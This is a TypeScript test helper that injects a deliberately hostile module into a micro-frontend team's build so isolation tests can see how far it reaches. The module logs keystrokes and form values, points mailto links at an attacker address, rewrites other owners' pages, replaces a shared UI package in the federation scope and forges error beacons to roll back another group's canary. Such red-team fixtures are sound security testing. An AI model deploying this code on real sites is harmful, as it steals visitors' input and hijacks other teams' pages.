/**
 * A data-team build that turns on the rest of the site from the browser, built as the team
 * would and deployed through the real deploy path by the tests that use it. While its code is
 * resident in a document it:
 *
 * - reports every keystroke and every field's value to `/_hostile/…` on the site's own origin
 *   (a request any policy that lets a page reach its own site allows);
 * - rewrites what other owners show: every navbar and footer link gets " (hijacked)", every
 *   `mailto:` link points at the attacker, and the heading of any page not of the data group
 *   reads "Hijacked";
 * - replaces the shell's `@site/ui` in the federation share scope, so a group loaded next in the
 *   same document would take the attacker's module;
 * - tries to roll back public health's canary: twenty times, fetches one of its pages (for any
 *   view token the site would hand that fetch), then reports an error in public health's name for
 *   every version the live manifest lists, with whatever cookies the browser then holds;
 * - adds a button that, clicked, opens custom development's overview in a window of its own and
 *   rewrites its heading if it can reach into it (`<html data-hostile-popup="…">` says how far it
 *   got: reached, refused, severed);
 * - marks the document (`<html data-hostile="data">`), so a test sees where it ran.
 *
 * It stays quiet on the server (no `document` there), so the deploy's checks render its pages.
 */
import { readFileSync, writeFileSync, cpSync, rmSync } from 'node:fs';
import path from 'node:path';
import { ROOT } from './deployment';
import { builtOnce } from './team-build';

export const HOSTILE_VERSION = '1.0.1';
export const HOSTILE_MARK = 'data';
export const HOSTILE_PATH = '/_hostile/';
export const ATTACKER_MAIL = 'mailto:attacker@example.com';
/** The other owner's page the hostile code opens in a window of its own. */
export const POPUP_TARGET = '/services/custom-dev';

const HOSTILE_MODULE = `
declare const __webpack_share_scopes__: Record<string, Record<string, Record<string, Record<string, unknown>>>> | undefined;

const OWN = ['/services/business-intelligence', '/services/data-analytics'];
const own = (path: string) => OWN.some((p) => path === p || path.startsWith(p + '/'));

if (typeof document !== 'undefined') {
  document.documentElement.dataset.hostile = ${JSON.stringify(HOSTILE_MARK)};
  const send = (what: string, value: string) =>
    void fetch(${JSON.stringify(HOSTILE_PATH)} + what + '?v=' + encodeURIComponent(value), {
      method: 'POST',
      keepalive: true,
    }).catch(() => undefined);
  document.addEventListener('keydown', (event) => send('key', event.key), true);
  document.addEventListener(
    'input',
    (event) => send('input', String((event.target as HTMLInputElement | null)?.value ?? '')),
    true,
  );
  const rewrite = () => {
    for (const link of document.querySelectorAll<HTMLElement>('header a, footer a')) {
      if (link.dataset.hijacked) continue;
      link.dataset.hijacked = 'true';
      link.append(' (hijacked)');
    }
    for (const link of document.querySelectorAll<HTMLAnchorElement>('a[href^="mailto:"]')) {
      if (link.getAttribute('href') !== ${JSON.stringify(ATTACKER_MAIL)})
        link.setAttribute('href', ${JSON.stringify(ATTACKER_MAIL)});
    }
    const heading = document.querySelector('main h1');
    if (heading && !own(window.location.pathname) && heading.textContent !== 'Hijacked')
      heading.textContent = 'Hijacked';
  };
  new MutationObserver(rewrite).observe(document, { subtree: true, childList: true });
  rewrite();
  // Another group's canary: its page fetched as a page of it, each time followed by failures
  // reported in its name, as a visitor of that page whose view failed would report them.
  void (async () => {
    try {
      const manifest = (await (await fetch('/remotes.json')).json()) as unknown;
      const versions = new Set<string>();
      JSON.stringify(manifest, (key, value: unknown) => {
        if (key === 'version' && typeof value === 'string') versions.add(value);
        return value;
      });
      for (let i = 0; i < 20; i++) {
        await fetch('/public-health/MandE-tools', { credentials: 'include' });
        for (const version of versions) {
          const report = { kind: 'page-error', group: 'public_health', version, message: 'Error: ' + i };
          navigator.sendBeacon('/_beacon', JSON.stringify(report));
        }
      }
      document.documentElement.dataset.hostileReports = String(20 * versions.size);
    } catch {
      document.documentElement.dataset.hostileReports = 'failed';
    }
  })();
  // Another owner's page in a window of its own, opened on the visitor's click (a gesture, as a
  // popup blocker wants) of a button the attacker adds: rewritten if this document can reach it.
  const opener = document.createElement('button');
  opener.type = 'button';
  opener.textContent = 'Compare our services';
  opener.dataset.hostileOpen = 'true';
  document.body.append(opener);
  opener.addEventListener('click', () => {
    const popup = window.open(${JSON.stringify(POPUP_TARGET)}, '_blank');
    const mark = (outcome: string) => (document.documentElement.dataset.hostilePopup = outcome);
    if (!popup) return mark('blocked');
    const started = Date.now();
    const reach = () => {
      try {
        const heading = popup.document.querySelector('main h1');
        if (heading && popup.location.pathname === ${JSON.stringify(POPUP_TARGET)}) {
          heading.textContent = 'Hijacked';
          return mark('reached');
        }
      } catch {
        return mark('refused');
      }
      if (popup.closed) return mark('severed');
      if (Date.now() - started > 10_000) return mark('no page');
      setTimeout(reach, 50);
    };
    reach();
  });
  // The shell's UI package as the share scope holds it, swapped for the attacker's.
  const scopes = typeof __webpack_share_scopes__ === 'undefined' ? undefined : __webpack_share_scopes__;
  const ui = scopes?.['default']?.['@site/ui'];
  const fake = { hijacked: true };
  for (const entry of Object.values(ui ?? {})) {
    entry['lib'] = () => fake;
    entry['get'] = () => Promise.resolve(() => fake);
    entry['loaded'] = true;
  }
}
export {};
`;

function writeHostileData(work: string): void {
  rmSync(work, { recursive: true, force: true });
  cpSync(path.join(ROOT, 'mfe-data'), work, {
    recursive: true,
    filter: (src) => !/[/\\](node_modules|dist)([/\\]|$)/.test(src),
  });
  const pkgFile = path.join(work, 'package.json');
  writeFileSync(
    pkgFile,
    JSON.stringify({ ...JSON.parse(readFileSync(pkgFile, 'utf8')), version: HOSTILE_VERSION }),
  );
  writeFileSync(path.join(work, 'src', 'pages', 'hostile.ts'), HOSTILE_MODULE);
  const index = path.join(work, 'src', 'pages', 'index.ts');
  writeFileSync(index, `import './hostile';\n${readFileSync(index, 'utf8')}`);
}

/**
 * The hostile data build in a workspace of the caller's own, `tests/.tmp/<folder>`, built once for
 * every test that asks for it. Returns the copy's folder; the version folder is in its `dist`.
 */
export async function buildHostileData(folder: string): Promise<string> {
  const built = await builtOnce('hostile-data', writeHostileData);
  const work = path.join(ROOT, 'tests', '.tmp', folder);
  rmSync(work, { recursive: true, force: true });
  cpSync(built, work, {
    recursive: true,
    filter: (src) => !/(^|[/\\])node_modules([/\\]|$)/.test(path.relative(built, src)),
  });
  return work;
}
